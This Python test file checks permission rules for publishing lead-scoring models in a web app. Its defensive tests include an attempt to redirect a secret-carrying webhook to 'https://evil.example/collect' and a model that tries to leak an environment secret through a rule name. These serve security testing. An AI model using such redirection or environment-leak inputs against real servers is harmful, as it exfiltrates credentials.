"""Publishing from the editor, against the real server: the server's environment stays the
server's (only an admin publishes text with ``${VAR}``, and it is filled only in a workflow's
webhook and e-mail fields, never in names shown on pages)."""

from __future__ import annotations

import hashlib
import re

import pytest
from tests.web.conftest import Site, csrf_of

from leadscore.engine.run import last_as_of, model_of

SECRET = "s3cret-from-the-environment"
HOOK = "http://127.0.0.1:9/from-env"
LEAK_MODEL = """version: 1
name: envleak
tiers: {cold: 0, hot: 5}
groups:
  fit:
    rules:
      - {name: "leak ${LEADSCORE_TEST_LEAK}", when: {property: job_title, in: [CEO]}, points: 10}
"""
HOOKED = LEAK_MODEL + """workflows:
  - name: tell ${LEADSCORE_TEST_LEAK}
    on: {enters_tier: hot}
    do:
      - webhook: {url: "${LEADSCORE_TEST_HOOK}", headers: {X-Key: "${LEADSCORE_TEST_LEAK}"}}
"""


def _digest(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def test_only_an_admin_publishes_text_that_reads_the_environment(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LEADSCORE_TEST_LEAK", SECRET)
    mia = site.login("mia")
    token = csrf_of(mia.get("/models").text)
    r = mia.post("/models/envleak/publish", data={"csrf_token": token, "text": LEAK_MODEL})
    assert r.status_code == 422 and "only an admin may publish a model that reads the server" in r.text
    assert 'data-line="7"' in r.text and SECRET not in r.text  # the error at its line; the text kept
    assert "leak ${LEADSCORE_TEST_LEAK}" in r.text
    r = mia.post("/models/envleak/publish/confirmed",
                 data={"csrf_token": token, "text": LEAK_MODEL, "hash": _digest(LEAK_MODEL)})
    assert r.status_code == 403 and "only an admin may publish" in r.text
    assert site.store.con.execute("SELECT count(*) FROM model_versions WHERE model = 'envleak'").fetchone()[0] == 0


def test_published_names_never_carry_environment_values(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LEADSCORE_TEST_LEAK", SECRET)
    monkeypatch.setenv("LEADSCORE_TEST_HOOK", HOOK)
    admin = site.login("admin")
    token = csrf_of(admin.get("/models").text)
    assert admin.post("/models/envleak/publish", data={"csrf_token": token, "text": HOOKED}).status_code == 200
    r = admin.post("/models/envleak/publish/confirmed",
                   data={"csrf_token": token, "text": HOOKED, "hash": _digest(HOOKED)})
    assert r.status_code == 303, r.text
    version = site.store.latest_version("envleak")
    assert version is not None
    model = model_of(version)  # as every page and the worker read it
    assert model.workflows[0].do[0].webhook is not None
    assert model.workflows[0].do[0].webhook.url == HOOK  # filled where a workflow sends
    assert model.workflows[0].do[0].webhook.headers == {"X-Key": SECRET}
    assert model.workflows[0].name == "tell ${LEADSCORE_TEST_LEAK}"  # and nowhere else
    ceo = site.store.con.execute("""SELECT contact_id FROM scores WHERE model = 'envleak' AND score >= 10
                                    ORDER BY contact_id LIMIT 1""").fetchone()[0]
    dana_like = site.login("boss")  # a rep manager: sees every lead
    for page in (dana_like.get("/leads?model=envleak"), dana_like.get(f"/leads/{ceo}"),
                 admin.get(f"/leads/{ceo}"), site.api().get(f"/v1/contacts/{ceo}/explain?model=envleak")):
        assert page.status_code == 200, page.text[:300]
        assert SECRET not in page.text
        assert "leak ${LEADSCORE_TEST_LEAK}" in page.text


WIRED = """version: 1
name: wired
tiers: {cold: 0, hot: 5}
groups:
  fit:
    rules:
      - {name: ceo, when: {property: job_title, in: [CEO]}, points: 10}
workflows:
  - name: tell sales
    on: {enters_tier: hot}
    do:
      - webhook: {url: "${LEADSCORE_TEST_HOOK}", headers: {X-Key: "${LEADSCORE_TEST_LEAK}"}}
"""


def test_marketing_may_keep_an_admins_environment_references_but_not_move_them(
        site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LEADSCORE_TEST_LEAK", SECRET)
    monkeypatch.setenv("LEADSCORE_TEST_HOOK", HOOK)
    assert site.api().post("/v1/models", json={"text": WIRED}).status_code == 200  # an admin wired it up
    mia = site.login("mia")
    token = csrf_of(mia.get("/models").text)
    moved = WIRED.replace('url: "${LEADSCORE_TEST_HOOK}"', 'url: "https://evil.example/collect"')
    r = mia.post("/models/wired/publish", data={"csrf_token": token, "text": moved})
    assert r.status_code == 422 and 'data-line="12"' in r.text and "only an admin may publish" in r.text
    reworded = WIRED.replace("points: 10", "points: 12")  # the same action, another rule: fine
    assert mia.post("/models/wired/publish", data={"csrf_token": token, "text": reworded}).status_code == 200
    r = mia.post("/models/wired/publish/confirmed",
                 data={"csrf_token": token, "text": reworded, "hash": _digest(reworded)})
    assert r.status_code == 303, r.text
    assert site.store.latest_version("wired").version == 2  # type: ignore[union-attr]


def test_a_contact_created_after_the_last_run_keeps_its_score_through_a_dashboard_publish(site: Site) -> None:
    """The site's last run is the demo's last day, long ago; a contact created now is scored at
    once (the API's real-time path), and publishing from the editor scores as of now too."""
    r = site.api().put("/v1/contacts/c_fresh", json={"email": "fresh@example.com", "job_title": "CEO",
                                                      "owner": "Dana Reyes"})
    assert r.status_code == 200, r.text
    last_run = last_as_of(site.store, "b2b")  # the latest whole-base run
    created = site.store.con.execute("SELECT created_at FROM contacts WHERE contact_id = 'c_fresh'").fetchone()[0]
    assert last_run is not None and created > last_run
    assert site.store.con.execute("SELECT count(*) FROM scores WHERE contact_id = 'c_fresh' AND model = 'b2b'"
                                  ).fetchone()[0] == 1
    mia = site.login("mia")
    token = csrf_of(mia.get("/models/b2b/edit").text)
    published = site.store.latest_version("b2b").text  # type: ignore[union-attr]
    text = re.sub(r"points: (\d+)", lambda m: f"points: {int(m.group(1)) + 1}", published, count=1)
    assert text != published
    confirm = mia.post("/models/b2b/publish", data={"csrf_token": token, "text": text})
    assert confirm.status_code == 200, confirm.text[:500]
    counted = sum(int(draft.replace(",", "")) for _published, draft in re.findall(
        r'<td class="num">([\d,]+)</td><td class="num">([\d,]+)</td>', confirm.text))
    form = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', confirm.text))
    r = mia.post("/models/b2b/publish/confirmed", data={**form, "csrf_token": token, "text": text})  # as a browser
    assert r.status_code == 303, r.text
    assert site.store.con.execute("SELECT count(*) FROM scores WHERE contact_id = 'c_fresh' AND model = 'b2b'"
                                  ).fetchone()[0] == 1
    scored = site.store.con.execute("SELECT count(*) FROM scores WHERE model = 'b2b'").fetchone()[0]
    assert scored == site.store.count("contacts")
    assert counted == scored  # the confirmation counted the contacts publishing scored
    dana = site.login("dana")
    assert "c_fresh" in dana.get("/leads?q=fresh").text  # still on her list, with a score
